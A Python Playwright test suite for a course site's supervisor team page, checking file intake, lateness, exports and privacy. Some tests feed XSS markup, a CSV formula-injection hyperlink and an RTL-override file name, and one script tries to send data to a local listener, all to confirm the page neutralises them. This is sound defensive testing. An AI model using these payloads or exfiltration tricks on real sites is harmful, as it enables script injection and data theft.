"""The team page of the built site: what it takes and turns away, and that nothing leaves it."""

import csv
import http.server
import io
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import ClassVar

import pytest
from playwright.sync_api import BrowserContext, Page, expect

from reports.cohorts import zip_of
from reports.hand_ins import DONE, completion, edited
from reports.team_page import give, payload

pytestmark = pytest.mark.xdist_group("site")

NOON = "2026-11-25T12:00:00Z"
PRIVATE = b'{"format": "course-progress/1", "units": {}}'
TABLES = ("Save as CSV, a row for each person", "Save as CSV, a row for each person and part")
REFUSED = (
    "globalThis.refused = []; addEventListener('securitypolicyviolation',"
    " ({ violatedDirective }) => refused.push(violatedDirective))"
)


@pytest.fixture(scope="module")
def address(serve, site) -> str:
    """The address of the built site."""
    return serve(site)


@pytest.fixture
def opened(browser, address):
    """Give a function that opens the page in a fresh profile; a script error fails the test."""
    contexts: list[BrowserContext] = []
    errors: list[str] = []

    def go(**settings) -> Page:
        context = browser.new_context(base_url=address, accept_downloads=True, **settings)
        context.clock.set_fixed_time(NOON)
        context.add_init_script(REFUSED)
        context.on("weberror", lambda error: errors.append(str(error.error)))
        context.on("dialog", lambda dialog: errors.append(dialog.message))
        contexts.append(context)
        tab = context.new_page()
        tab.goto("supervisors/team/")
        tab.wait_for_selector("html[data-started]")
        return tab

    yield go
    for context in contexts:
        context.close()
    assert errors == []


def row(tab: Page, name: str):
    """Return the row of a person in the table of people."""
    named = tab.locator(".team__name", has_text=name)
    return tab.locator("table[aria-label=People] tbody tr", has=named)


def cells(tab: Page, name: str) -> list[str]:
    """Return what stands in the row of a person from its second cell on."""
    return [text.strip() for text in row(tab, name).locator("td").all_inner_texts()][1:]


def saved(tab: Page, button: str) -> list[list[str]]:
    """Save a table, and read it as a spreadsheet does."""
    with tab.expect_download() as waiting:
        tab.get_by_role("button", name=button, exact=True).click()
    text = waiting.value.path().read_text(encoding="utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def many(count: int) -> list[tuple[str, bytes]]:
    """Return the files of so many people."""
    states = [{"lens": DONE}, {"lens": {"status": "started"}}, {}]
    return [
        (
            f"course-completion-{number}.json",
            completion(f"Person {number:05}", states[number % 3], due={"lens": "2026-11-24"}),
        )
        for number in range(count)
    ]


def read_all(tab: Page, folder: Path, singles: int, zipped: int) -> float:
    """Give the page single files and a zip file; return the seconds until it shows the last."""
    files = many(singles + zipped)
    for name, data in files[:singles]:
        (folder / name).write_bytes(data)
    (folder / "submissions.zip").write_bytes(zip_of(files[singles:]))
    paths = sorted(folder.iterdir())
    began = time.perf_counter()
    tab.set_input_files("#team-files", paths)
    expect(tab.locator(".team__said")).to_have_text(
        f"{singles + zipped:,} files read, {singles + zipped:,} people.", timeout=60_000
    )
    return time.perf_counter() - began


class Listener(http.server.BaseHTTPRequestHandler):
    """Notes who asks for anything, and answers everybody."""

    heard: ClassVar[list[str]] = []
    address: ClassVar[str] = ""

    def do_GET(self):
        """Note the question, and answer it."""
        self.heard.append(self.requestline)
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()

    def do_POST(self):
        """Do the same."""
        self.do_GET()

    def log_message(self, *arguments):
        """Keep the test's output to the tests."""


@pytest.fixture
def listener() -> Iterator[type[Listener]]:
    """Somebody on another port who would like to know."""
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Listener)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    Listener.heard.clear()
    Listener.address = f"http://127.0.0.1:{server.server_address[1]}/names"
    yield Listener
    server.shutdown()
    server.server_close()


WAYS_OUT = """async (address) => {
  const request = new XMLHttpRequest();
  request.open("POST", address);
  const posted = await new Promise((done) => {
    request.onload = () => done(true);
    request.onerror = () => done(false);
    request.send("names");
  });
  const fetched = await fetch(address).then(() => true, () => false);
  navigator.sendBeacon(address, "names");
  new Image().src = address;
  await new Promise((next) => setTimeout(next, 300));
  return { posted, fetched, refused };
}"""


def test_the_listener_hears(browser, listener, serve, tmp_path):
    """On a page without a policy all four ways lead out, so that the next test can fail."""
    (tmp_path / "index.html").write_text("<!doctype html><title>Open</title>", encoding="utf-8")
    context = browser.new_context()
    tab = context.new_page()
    tab.add_init_script("globalThis.refused = []")
    tab.goto(serve(tmp_path))
    assert tab.evaluate(WAYS_OUT, listener.address)["posted"]
    context.close()
    assert len(listener.heard) == 4


def test_nothing_leaves_the_page(opened, listener, tmp_path):
    """Files and a zip file are read without a single request, and every way out is closed."""
    tab = opened()
    asked = []
    tab.context.on("request", lambda request: asked.append(request.url))
    read_all(tab, tmp_path, 100, 50)
    tab.get_by_text("By part").click()
    saved(tab, "Save as CSV, a row for each person")
    assert [url for url in asked if not url.startswith("blob:")] == []
    assert tab.evaluate("refused") == []
    found = tab.evaluate(WAYS_OUT, listener.address)
    assert not found["fetched"]
    assert not found["posted"]
    assert found["refused"].count("connect-src") == 3
    assert "img-src" in found["refused"]
    assert listener.heard == []


@pytest.mark.audit
def test_a_thousand_files_and_a_zip_in_three_seconds(opened, tmp_path):
    """1,000 files and a zip file of 50 are read and shown in under three seconds, unasked."""
    took = []
    for _ in range(3):
        tab = opened()
        asked = []
        tab.context.on("request", lambda request, asked=asked: asked.append(request.url))
        took.append(read_all(tab, tmp_path, 1000, 50))
        assert asked == []
    assert min(took) < 3, took


def test_who_is_how_far(opened):
    """The six things a supervisor asks: nothing handed in, not started, begun, done, late, over."""
    tab = opened()
    due = {"lens": "2026-11-24", "orientation": "2026-12-15"}
    give(
        tab,
        [
            payload("a.json", completion("Ann Lee", {"lens": DONE, "orientation": DONE}, due=due)),
            payload("b.json", completion("Ben Ode", {"lens": {"status": "started"}}, due=due)),
            payload("c.json", completion("Cleo Parr", due=due, ref="7")),
            payload("old.json", completion("ben  ode", issued="2026-11-01T10:00:00Z")),
        ],
    )
    give(tab, [payload("team.csv", b"Name;Ref\r\nAnn Lee;\r\nDora Nile;9\r\n")], "#team-roster")
    assert cells(tab, "Ann Lee")[1:4] == ["2026-11-24", "2 of 2", "–"]
    assert cells(tab, "Ben Ode")[1:4] == ["2026-11-24", "0 of 2", "1"]
    assert cells(tab, "Dora Nile")[:4] == ["handed in nothing", "–", "–", "–"]
    expect(row(tab, "Ann Lee").locator("td").nth(1)).to_contain_text("completed")
    expect(row(tab, "Ben Ode")).to_contain_text("1 other file, not on the roster")
    tab.get_by_label("Show", exact=True).select_option("no-file")
    expect(tab.locator(".team__name")).to_have_text(["Dora Nile"])
    expect(tab.locator(".team__rest")).to_contain_text("old.json: ben  ode, handed in 2026-11-01")
    tab.get_by_label("Show", exact=True).select_option("all")
    row(tab, "Ben Ode").get_by_text("Parts").click()
    expect(row(tab, "Ben Ode")).to_contain_text("in progress, overdue since 2026-11-24")


def test_completed_on_the_last_day_is_not_late(opened):
    """What was completed on the day that it was due is in time, and a day after it is late."""
    tab = opened()
    in_time = completion("In Time", {"lens": DONE}, due={"lens": "2026-11-20"})
    late = completion("Late", {"lens": DONE}, due={"lens": "2026-11-19"})
    give(tab, [payload("a.json", in_time), payload("b.json", late)])
    for name, words in (("In Time", "lens: completed 2026-11-20"), ("Late", "2026-11-20, late")):
        row(tab, name).get_by_text("Parts").click()
        expect(row(tab, name).locator("li")).to_contain_text(words)
    expect(row(tab, "In Time").locator("li")).not_to_contain_text("late")


def test_what_everybody_must_do(opened):
    """A part that the supervisor ticks is asked of all, whatever their assignments say."""
    tab = opened()
    give(tab, [payload("a.json", completion("Ann Lee", {"orientation": DONE}))])
    expect(row(tab, "Ann Lee")).to_contain_text("1 of 1")
    tab.get_by_text("Choose parts that everybody must do").click()
    tab.locator("#team-integration").check()
    expect(row(tab, "Ann Lee")).to_contain_text("0 of 1")


def test_an_edited_file_is_flagged(opened):
    """Its person is shown and marked, and the sentence above says how many there are."""
    tab = opened()
    file = completion("Ann Lee", {"lens": {"status": "started"}})
    changed = edited(file, modules=[{"id": "lens"} | DONE])
    give(tab, [payload("a.json", changed), payload("b.json", completion("Ben Ode"))])
    expect(row(tab, "Ann Lee")).to_contain_text("file was edited")
    expect(row(tab, "Ben Ode")).not_to_contain_text("edited")
    expect(tab.locator(".team__said")).to_have_text("2 files read, 2 people. 1 file was edited.")


@pytest.mark.parametrize(
    ("name", "data", "words"),
    [
        ("p.json", PRIVATE, "a private copy of somebody's progress; delete it and ask for the"),
        ("r.json", b'{"format": "course-request/1"}', "a certificate request, which is for the"),
        ("x.json", b"no JSON", "not a file that this site saved"),
        ("x.json", b"x" * 1_000_001, "too large for a file that this site saved"),
        ("c.json", completion("Ann", course={"id": "other", "version": "1"}), "for another course"),
        ("d.json", edited(completion("Ann"), notes=["mine"]), "`notes`: not a part of such a file"),
        ("x.pdf", b"%PDF-1.7", "No credential is attached to this PDF"),
        ("x.zip", b"PK no zip", "a damaged zip file"),
        ("x.zip", zip_of([("p.json", PRIVATE)]), "a private copy of somebody's progress"),
        ("x.zip", zip_of([("big.json", b" " * 1_000_001)]), "larger than 1 MB"),
        ("x.zip", zip_of([("team.csv", b"name")]), "a table; if it lists your team, give it by"),
        ("x.csv", b"\xff\xfe\x00", "not in UTF-8"),
    ],
    ids=[
        "private",
        "request",
        "no-json",
        "too-large",
        "other-course",
        "more-in-it",
        "pdf",
        "no-zip",
        "private-in-zip",
        "large-in-zip",
        "table-in-zip",
        "table",
    ],
)
def test_what_is_turned_away_is_turned_away_with_words(opened, name, data, words):
    """Nothing of it counts, the reason stands in the list, and the page goes on."""
    tab = opened()
    give(tab, [payload(name, data)])
    expect(tab.locator(".team__rest li")).to_have_count(1)
    expect(tab.locator(".team__rest li")).to_contain_text(words)
    expect(tab.locator(".team__said")).to_contain_text("1 file was turned away.")
    give(tab, [payload("a.json", completion("Ann Lee"))])
    expect(row(tab, "Ann Lee")).to_be_visible()


def test_hostile_names_are_text(opened):
    """Markup, formulas and long words in names, numbers, parts and file names do nothing."""
    tab = opened()
    image = '<img src=x onerror="alert(1)">'
    formula = '=HYPERLINK("http://x.example","y")'
    give(
        tab,
        [
            payload(f"{image}.json", completion(image, {"constructor": DONE}, ref="+1")),
            payload("b.json", completion(formula, {"to-string": DONE})),
            payload("a\u202egnp.json", PRIVATE),
            payload("c.json", completion("W" * 80)),
        ],
    )
    give(tab, [payload("team.csv", b"name\n<script>alert(2)</script>\n")], "#team-roster")
    expect(row(tab, image)).to_be_visible()
    assert tab.locator(".team :is(img, script, a)").count() == 0
    expect(tab.locator(".team__rest")).to_contain_text("a\ufffdgnp.json: a private copy")
    assert tab.evaluate("document.documentElement.scrollWidth <= innerWidth")
    for button in TABLES:
        table = saved(tab, button)
        assert any(f"'{formula}" in line for line in table)
        assert not any(cell.startswith(("=", "+", "@", "-")) for line in table for cell in line)


def test_due_today_in_another_time_zone(opened):
    """On the same moment a part is overdue where the day is over, and not where it is not."""
    files = [payload("a.json", completion("Ann Lee", due={"lens": "2026-11-25"}))]
    late = "2026-11-26T02:00:00Z"
    for zone, overdue in (("America/New_York", "–"), ("Europe/Berlin", "1"), ("Etc/GMT+2", "1")):
        tab = opened(timezone_id=zone)
        tab.clock.set_fixed_time(late)
        give(tab, files)
        assert cells(tab, "Ann Lee")[3] == overdue, zone


def press(tab: Page, selector: str) -> None:
    """Go on with the tab key until an element of this kind has the focus."""
    for _ in range(200):
        tab.keyboard.press("Tab")
        if tab.evaluate("(what) => document.activeElement.matches(what)", selector):
            return
    raise AssertionError(f"the keyboard does not reach {selector}")


def test_both_views_by_keyboard(opened):
    """Files are chosen, both views looked at and opened, and a table saved without a mouse."""
    tab = opened()
    press(tab, "#team-files")
    with tab.expect_file_chooser() as waiting:
        tab.keyboard.press("Space")
    waiting.value.set_files([payload("a.json", completion("Ann Lee", {"lens": DONE}))])
    expect(row(tab, "Ann Lee")).to_be_visible()
    press(tab, "#team-view-0")
    tab.keyboard.press("ArrowDown")
    expect(tab.locator("table[aria-label=Parts]")).to_be_visible()
    expect(row(tab, "Ann Lee")).to_be_hidden()
    press(tab, ".team summary")
    tab.keyboard.press("Enter")
    expect(tab.get_by_text("Completed (1)")).to_be_visible()
    tab.locator("#team-view-1").focus()
    tab.keyboard.press("ArrowUp")
    press(tab, "td summary")
    tab.keyboard.press("Enter")
    expect(row(tab, "Ann Lee").locator("li")).to_contain_text("completed 2026-11-20")


@pytest.fixture
def hand_ins(tmp_path: Path) -> Path:
    """A folder with a folder in it, a file of the system's own, and a roster."""
    folder = tmp_path / "hand-ins"
    (folder / "late ones").mkdir(parents=True)
    (folder / "a.json").write_bytes(completion("Ann Lee"))
    (folder / "late ones" / "b.json").write_bytes(completion("Ben Ode"))
    (folder / "late ones" / "p.json").write_bytes(PRIVATE)
    (folder / ".DS_Store").write_bytes(b"nothing")
    (folder / "team.csv").write_text("name\nDora Nile\n", encoding="utf-8")
    return folder


def has_all_of_the_folder(tab: Page) -> None:
    """Check what the folder holds, and that nothing is said of the system's file."""
    expect(tab.locator(".team__name")).to_have_text(["Ann Lee", "Ben Ode", "Dora Nile"])
    expect(tab.locator(".team__rest li")).to_have_count(1)
    expect(tab.locator(".team__rest li")).to_contain_text("hand-ins/late ones/p.json: a private")


def test_a_folder_is_chosen(opened, hand_ins):
    """All in it is read, folders in it too; a table in it is taken for the list of the team."""
    tab = opened()
    tab.set_input_files("#team-folder", hand_ins)
    has_all_of_the_folder(tab)


def test_a_folder_is_dropped(opened, hand_ins):
    """The same when it is dropped beside the frame, as the browser sees a real drag."""
    tab = opened()
    devtools = tab.context.new_cdp_session(tab)
    where = {
        "x": 640,
        "y": 60,
        "data": {"items": [], "files": [str(hand_ins)], "dragOperationsMask": 1},
    }
    for kind in ("dragEnter", "dragOver", "drop"):
        devtools.send("Input.dispatchDragEvent", {"type": kind, **where})
    has_all_of_the_folder(tab)
    assert "supervisors/team/" in tab.url


def test_start_over_forgets(opened):
    """Nothing is left of what was read, neither on the page nor in the browser's storage."""
    tab = opened()
    before = tab.evaluate("JSON.stringify({ ...localStorage })")
    give(tab, [payload("a.json", completion("Ann Lee"))])
    assert tab.evaluate("JSON.stringify({ ...localStorage })") == before
    tab.get_by_role("button", name="Start over").click()
    expect(tab.locator(".team__name")).to_have_count(0)
    expect(tab.get_by_text("Who is how far")).to_be_hidden()
    tab.reload()
    tab.wait_for_selector("html[data-started]")
    expect(tab.locator(".team__name")).to_have_count(0)


def test_without_scripts(browser, address):
    """The page says that it needs JavaScript, and what to do without it."""
    context = browser.new_context(java_script_enabled=False)
    tab = context.new_page()
    tab.goto(f"{address}supervisors/team/")
    expect(tab.locator(".team noscript p")).to_contain_text("course team")
    context.close()
